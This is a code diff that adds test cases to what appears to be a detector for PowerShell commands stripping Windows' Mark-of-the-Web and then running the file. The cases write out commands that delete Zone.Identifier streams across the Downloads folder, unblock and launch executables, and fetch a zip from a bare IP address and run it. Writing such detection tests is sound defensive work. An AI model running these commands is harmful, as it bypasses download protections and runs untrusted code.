@@ -24,6 +24,11 @@ BARE = ("cleared_file_fetched", "input_bare_address")
         ("Unblock-File $env:TEMP\\a.zip; Expand-Archive $env:TEMP\\a.zip; & $env:TEMP\\a\\a.exe", [REMOVED, EXPOSED]),
         ("Unblock-File C:\\Users\\ann\\Downloads\\a.iso; Mount-DiskImage C:\\x\\a.iso", [REMOVED, EXPOSED]),
         ("Unblock-File C:\\Users\\ann\\Downloads\\a.psm1; Import-Module C:\\x\\a.psm1", [REMOVED]),
+        ("[IO.File]::Delete('C:\\lab\\a.exe:Zone.Identifier')", [REMOVED]),
+        ("[IO.File]::Delete('C:\\lab\\a.exe'); 'Zone.Identifier'", []),
+        # all files of a folder
+        ("gci $env:USERPROFILE\\Downloads -Recurse | % { Remove-Item $_.FullName -Stream Zone.Identifier }; "
+         "Start-Process $env:USERPROFILE\\Downloads\\a.exe", [REMOVED, EXPOSED]),
         # fetched from a host without a name
         ("iwr http://203.0.113.7/a.zip -OutFile $env:TEMP\\a.zip; Unblock-File $env:TEMP\\a.zip; & $env:TEMP\\a.exe",
          [REMOVED, EXPOSED, *BARE]),
